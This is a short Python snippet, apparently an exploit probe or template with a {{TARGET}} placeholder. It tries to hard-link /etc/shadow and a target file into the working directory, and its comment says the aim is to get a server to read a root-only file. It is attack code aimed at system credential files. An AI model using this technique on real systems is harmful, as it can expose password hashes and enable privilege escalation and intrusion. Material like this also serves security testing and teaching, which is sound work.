# A hard link to a root-only file, then asks the server to read it.
import os
for src, dst in (("/etc/shadow", "sh"), ("{{TARGET}}", "tg")):
    try:
        os.link(src, dst)
        print("linked", dst)
    except OSError as exc:
        print("link refused", dst, exc.errno)
